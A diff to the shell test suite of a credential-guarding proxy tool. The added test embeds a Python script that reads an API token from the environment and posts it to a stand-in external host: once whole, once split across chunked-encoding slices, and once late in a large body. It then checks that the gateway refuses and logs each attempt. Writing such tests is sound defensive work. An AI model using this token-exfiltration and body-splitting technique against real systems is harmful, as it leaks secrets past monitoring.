@@ -509,6 +509,56 @@ expect_eq "... nor in the store's file" 0 "$(grep -c "$real" "$STATE/paddock.db"
 pdk secret list --json
 expect_ne "the vault records the credential's use" "None" "$(json_get "$OUT" 'j["used_ns"]')"
 
+# In a body toward another host too, however it is cut: the body is scanned as it streams
+# (its chunked framing taken off), and the slice that would complete the placeholder is
+# never sent; the request is refused and recorded.
+cat >"$WS/bodyleak.py" <<'EOF2'
+import os, socket, time
+tok = os.environ["API_TOKEN"].encode()
+def send(path, parts, chunked):
+    s = socket.create_connection(("127.0.0.1", 3128))
+    head = b"POST http://img.cdn.test%s HTTP/1.1\r\nHost: img.cdn.test\r\n" % path.encode()
+    body = b"".join(parts)
+    head += b"Transfer-Encoding: chunked\r\n\r\n" if chunked else b"Content-Length: %d\r\n\r\n" % len(body)
+    s.sendall(head)
+    for p in parts:
+        time.sleep(0.05)  # each its own slice at the gateway
+        try:
+            s.sendall(b"%x\r\n%s\r\n" % (len(p), p) if chunked else p)
+        except OSError:
+            break
+    if chunked:
+        try: s.sendall(b"0\r\n\r\n")
+        except OSError: pass
+    s.settimeout(20)
+    answer = b""
+    try:
+        while chunk := s.recv(65536):
+            answer += chunk
+    except OSError:
+        pass
+    print(path, answer.split(b" ")[1].decode() if answer else "none")
+send("/v1/body-plain", [b"x=" + tok], False)
+send("/v1/body-split", [b"x=" + tok[:9], tok[9:30], tok[30:]], True)
+send("/v1/body-late", [b"y" * 200000, b"x=" + tok[:20], tok[20:]], False)
+send("/v1/body-clean", [b"nothing to see"], True)
+EOF2
+: >"$T/upstream.log"
+wrun --policy "$T/cred.yaml" -- python3 bodyleak.py
+expect_eq "a placeholder in a body toward another host: refused (403), whole, split across chunks, or late in a large body" \
+    "/v1/body-plain 403|/v1/body-split 403|/v1/body-late 403|/v1/body-clean 200" "$(printf '%s' "$OUT" | paste -sd'|')"
+expect_eq "... the placeholder never reached that host whole" 0 \
+    "$(grep -c 'pdk-ph-[0-9a-f]\{48\}' "$T/upstream.log")"
+expect_eq "... and none of those requests reached it complete" "" \
+    "$("$PYTHON" -c '
+import json, sys
+for h in map(json.loads, open(sys.argv[1])):
+    if h["path"] == "/v1/body-plain" and h["body_len"] >= 57 or h["path"] == "/v1/body-late" and h["body_len"] >= 200057:
+        print(h["path"])' "$T/upstream.log")"
+pdk audit --json
+expect_match "... each recorded as an exfiltration attempt in a body" \
+    '"found_in":"body".*"found_in":"body".*"found_in":"body"' "$(printf '%s' "$OUT" | tr '\n' ' ')"
+
 # A placeholder file inside the workspace would be a change of the session: refused.
 sed "s|file: ~/.config/api/token|file: $WS/token|" "$T/cred.yaml" >"$T/cred-ws.yaml"
 wrun --policy "$T/cred-ws.yaml" -- true
